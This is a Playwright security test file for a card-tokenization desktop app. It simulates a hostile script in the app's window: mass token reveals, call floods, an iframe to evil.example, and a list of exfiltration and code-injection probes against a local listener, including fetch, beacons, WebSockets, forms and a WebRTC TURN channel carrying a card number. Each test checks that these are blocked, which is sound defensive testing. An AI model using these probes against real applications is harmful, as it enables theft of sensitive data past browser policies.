import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, test } from '../../support/app-fixture.ts';
import { choose, go, startBuiltIn, tokenize } from '../../support/page-actions.ts';

/*
 * What a script could do that got into the window after all. It has everything the window has, and tries for more.
 */

const revealsPerMinute = 10;

/** The bridge as such a script sees it. */
interface Bridge {
  readonly [call: string]: (input: unknown) => Promise<{ ok: boolean; failure?: { code: string } }>;
}
type Hostile = typeof globalThis & { readonly tokendesk: Bridge; document: HostileDocument };
interface HostileDocument {
  createElement(name: string): HostileElement;
  readonly body: { append(element: HostileElement): void };
}
interface HostileElement {
  src: string;
  name: string;
  textContent: string;
  innerHTML: string;
  onload: (() => void) | null;
  onerror: (() => void) | null;
}

/** Evaluates as the page's own script would be, with the policy in force. */
async function evaluateAsPage(page: Page, expression: string): Promise<{ value: unknown; threw: string }> {
  const protocol = await page.context().newCDPSession(page);
  const { result, exceptionDetails } = await protocol.send('Runtime.evaluate', {
    expression,
    awaitPromise: true,
    returnByValue: true,
    allowUnsafeEvalBlockedByCSP: false,
  });
  await protocol.detach();
  return { value: result.value, threw: exceptionDetails?.exception?.className ?? '' };
}

test('a script in the window can not read out a list: reveals are throttled outside of it', async ({
  page,
  app,
}) => {
  await startBuiltIn(page);
  await choose(page, 'Policy', 'analyst');
  await tokenize(page, '4111111111111111');
  const codes = await page.evaluate(async () => {
    const { tokendesk: bridge } = globalThis as unknown as Hostile;
    const where = { policy: 'analyst', definition: 'card-number', caseReference: '' };
    // A token each, since the same value is not revealed twice at a time: one in eight of these is one.
    for (let index = 100; index < 400; index++)
      await bridge['lookup.mask']?.({ ...where, token: `411111000${index}1111` });
    const recent = (await bridge['lookup.recent']?.({})) as unknown as { value: { id: string }[] };
    const given = { xorKey: '0000', reason: 'Refund', caseReference: 'D-1' };
    const answers = await Promise.all(
      recent.value.map(async ({ id }) => bridge['lookup.reveal']?.({ ...given, lookupId: id })),
    );
    return answers.map((answer) => (answer?.ok === true ? 'shown' : (answer?.failure?.code ?? '')));
  });
  expect(codes.filter((code) => code === 'shown').length).toBeLessThanOrEqual(revealsPerMinute);
  expect(codes.length).toBeGreaterThan(2 * revealsPerMinute);
  expect(codes.filter((code) => code === 'reveal.throttled').length).toBeGreaterThanOrEqual(
    codes.length - revealsPerMinute,
  );
  // All but the last of them ended again at once: one value at a time is on the screen.
  const replaced = (await app.outward()).filter((message) => message.includes('"cause":"replaced"')).length;
  expect(replaced).toBeLessThan(revealsPerMinute);
});

test('a flood of calls is answered, and the app goes on working meanwhile', async ({ page }) => {
  test.setTimeout(120_000);
  await startBuiltIn(page);
  const flood = page.evaluate(async () => {
    const { tokendesk: bridge } = globalThis as unknown as Hostile;
    const counts: Record<string, number> = {};
    const count = async (call: string, input: unknown): Promise<void> => {
      const answer = await bridge[call]?.(input);
      const code = answer?.ok === true ? 'ok' : (answer?.failure?.code ?? 'nothing');
      counts[code] = (counts[code] ?? 0) + 1;
    };
    const calls: Promise<void>[] = [];
    for (let turn = 0; turn < 2_000; turn++) {
      calls.push(count('lookup.hide', { revealId: `r-${turn}` }));
      calls.push(count('lookup.mask', { token: 1 }));
      calls.push(count('lookup.reveal', { lookupId: 'x', xorKey: '0000', reason: 'r', caseReference: 'c' }));
    }
    await Promise.all(calls);
    return counts;
  });
  await go(page, 'Batch');
  await expect(page.getByRole('button', { name: 'Choose a file' })).toBeVisible();
  await go(page, 'Lookup');
  expect(await flood).toEqual({ ok: 2_000, 'call.invalid': 2_000, 'lookup.unknown': 2_000 });
  expect(await tokenize(page, '4111111111111111')).toMatch(/^411111\d{6}1111$/);
});

test('a frame inside the window is given nothing', async ({ page }) => {
  await startBuiltIn(page);
  await page.evaluate(async () => {
    const { document } = globalThis as unknown as Hostile;
    const open = (src: string, name: string): Promise<void> =>
      new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.name = name;
        frame.onload = frame.onerror = () => {
          resolve();
        };
        if (src !== '') frame.src = src;
        document.body.append(frame);
        setTimeout(resolve, 1_000);
      });
    await open('', 'blank');
    await open('/index.html', 'same origin');
    await open('data:text/html,<p>hello', 'data');
    await open('https://evil.example/', 'elsewhere');
  });
  expect(page.frame({ name: 'blank' })).not.toBeNull();
  for (const name of ['blank', 'same origin', 'data', 'elsewhere']) {
    const frame = page.frame({ name });
    if (frame === null) continue;
    // What the policy blocked is an error page, in which nothing runs.
    const [bridge, globals, text] = await frame
      .evaluate(() => [
        typeof (globalThis as { tokendesk?: unknown }).tokendesk,
        // Whatever a preload or its host could have left.
        Object.getOwnPropertyNames(globalThis)
          .filter((member) =>
            /electron|tokendesk|ipcRenderer|^(require|process|module|Buffer)$/i.test(member),
          )
          .join(),
        (globalThis as unknown as { document: { body: { innerText: string } } }).document.body.innerText,
      ])
      .catch(() => ['undefined', '', '']);
    expect([name, bridge, globals]).toEqual([name, 'undefined', '']);
    expect([name, text]).not.toEqual([name, 'hello']);
  }
  // The window itself is none the worse for it.
  await go(page, 'Batch');
});

test('nothing but the bundle is loaded or run, and nobody outside hears of it', async ({ page }) => {
  const heard: string[] = [];
  const server = http.createServer((request, response) => {
    heard.push(request.url ?? '');
    response.end('ok');
  });
  // Whoever connects is heard, whatever it speaks.
  server.on('connection', () => heard.push('a connection'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const outside = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  const loaded: string[] = [];
  page.context().on('response', (response) => {
    // "No content" is what the host itself says to a navigation it does not make.
    if (response.status() !== 204) loaded.push(response.url());
  });
  await startBuiltIn(page);

  const probes: Record<string, string> = {
    eval: `eval('1')`,
    'new Function': `new Function('return 1')()`,
    fetch: `fetch('http://${outside}/fetch').then(() => 'loaded')`,
    'fetch of the bundle': `fetch('/index.html').then(() => 'loaded')`,
    // It answers true whatever becomes of it: whether it left is what the server heard.
    beacon: `(navigator.sendBeacon('http://${outside}/beacon'), 'blocked')`,
    XMLHttpRequest: `new Promise((done) => { const x = new XMLHttpRequest(); x.onload = () => done('loaded'); x.onerror = () => done('blocked'); x.open('GET', 'http://${outside}/xhr'); x.send(); })`,
    WebSocket: `new Promise((done) => { const s = new WebSocket('ws://${outside}/ws'); s.onopen = () => done('loaded'); s.onerror = () => done('blocked'); })`,
    EventSource: `new Promise((done) => { const s = new EventSource('http://${outside}/sse'); s.onopen = () => done('loaded'); s.onerror = () => { s.close(); done('blocked'); }; })`,
    image: `new Promise((done) => { const i = new Image(); i.onload = () => done('loaded'); i.onerror = () => done('blocked'); i.src = 'http://${outside}/image'; })`,
    module: `import('http://${outside}/module.js').then(() => 'loaded')`,
    worker: `new Promise((done) => { const w = new Worker('/assets/none.js'); w.onmessage = () => done('loaded'); w.onerror = () => done('blocked'); })`,
    'service worker': `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.getRegistrations()).then((all) => all.length === 0 ? 'blocked' : 'loaded')`,
    'markup from a string': `document.createElement('p').innerHTML = '<img src=x>'`,
    'script from a string': `(() => { const s = document.createElement('script'); s.textContent = 'globalThis.ran = true'; document.head.append(s); return globalThis.ran ? 'loaded' : 'blocked'; })()`,
    'inline handler': `(() => { const b = document.createElement('button'); b.setAttribute('onclick', 'globalThis.ran = true'); b.click(); return globalThis.ran ? 'loaded' : 'blocked'; })()`,
    'another policy for markup': `trustedTypes.createPolicy('mine', { createHTML: (x) => x }) && 'loaded'`,
    'a second window': `window.open('http://${outside}/window') === null ? 'blocked' : 'blocked later'`,
    stylesheet: `new Promise((done) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = () => done('loaded'); l.onerror = () => done('blocked'); l.href = 'http://${outside}/style.css'; document.head.append(l); })`,
    form: `(() => { const f = document.createElement('form'); f.action = 'http://${outside}/form'; document.body.append(f); f.submit(); return 'blocked'; })()`,
    // TURN over TCP is the way past a policy that forbids UDP; whether it left is what the server heard.
    WebRTC: `(async () => {
      const peer = new RTCPeerConnection({ iceServers: [
        { urls: 'stun:${outside}' },
        { urls: 'turn:${outside}?transport=tcp', username: '4111111111111111', credential: 'c' },
      ] });
      peer.createDataChannel('x');
      await peer.setLocalDescription();
      const complete = new Promise((done) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done(); });
      await Promise.race([complete, new Promise((done) => setTimeout(done, 3_000))]);
      return peer.localDescription.sdp.includes('a=candidate') ? 'candidates' : 'blocked';
    })()`,
  };
  for (const [name, expression] of Object.entries(probes)) {
    const { value, threw } = await evaluateAsPage(page, expression);
    const outcome = threw !== '' ? 'blocked' : String(value);
    expect([name, /^(blocked|false)/.test(outcome)]).toEqual([name, true]);
  }
  // The control: what the policy allows does run.
  expect(await evaluateAsPage(page, '1 + 1')).toEqual({ value: 2, threw: '' });
  expect(heard).toEqual([]);
  expect(loaded.filter((url) => !url.startsWith(`${new URL(page.url()).origin}/`))).toEqual([]);
  await expect.poll(() => page.context().pages()).toHaveLength(1);
  await new Promise((resolve) => server.close(resolve));
});

test('the app itself never offends against its own policy', async ({ page }) => {
  const violations: string[] = [];
  page.on('console', (message) => {
    const isComplaint = ['error', 'warning'].includes(message.type());
    if (isComplaint || /Content Security Policy|TrustedHTML|TrustedScript/.test(message.text()))
      violations.push(message.text());
  });
  page.on('pageerror', (error) => violations.push(error.message));
  await startBuiltIn(page);
  await tokenize(page, '4111111111111111');
  for (const place of ['Batch', 'Reports', 'Activity', 'Connections', 'Settings', 'Lookup'])
    await go(page, place);
  await page.keyboard.press('Control+l');
  await page.getByRole('button', { name: 'Unlock' }).click();
  expect(violations).toEqual([]);
  // The control: an offence is heard of.
  await evaluateAsPage(page, `fetch('/index.html').catch(() => null).then(() => 1)`);
  await expect.poll(() => violations.length).toBeGreaterThan(0);
});
